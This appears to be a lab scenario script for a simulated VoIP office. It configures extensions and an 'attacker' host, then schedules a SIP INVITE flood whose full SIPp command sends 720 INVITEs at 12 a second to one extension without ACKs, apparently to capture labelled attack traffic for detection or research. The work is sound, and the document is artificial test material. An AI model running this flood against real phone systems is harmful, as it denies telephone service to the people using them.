# SIPp sends 12 INVITEs a second for a minute, for one phone, and no ACK.
relocate example.org 5060 10.60.1 198.18.61
EXTENSIONS=(1001 1002 1003 1004 1005 1006 1007)
EXISTING='^10[0-4][0-9]$'
WEAK=none
MAX_PACKETS=12000
open_office
add_attacker flooder 198.18.61.140
start_office_capture
keep_alive 19
office_day 404 135
at 28 attack A1 invite_flood flooder 5060 "SIPp sends 720 INVITEs, 12 a second, for 1007, whose phone rings and then is busy, and no ACK." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$parts/sipp/flood-invite.xml" -nostdin -default_behaviors none \
    -i 198.18.61.140 -mi 198.18.61.140 -p 5060 -s 1007 -r 12 -m 720 10.60.1.1:5060
play
wait_for A1
close_office
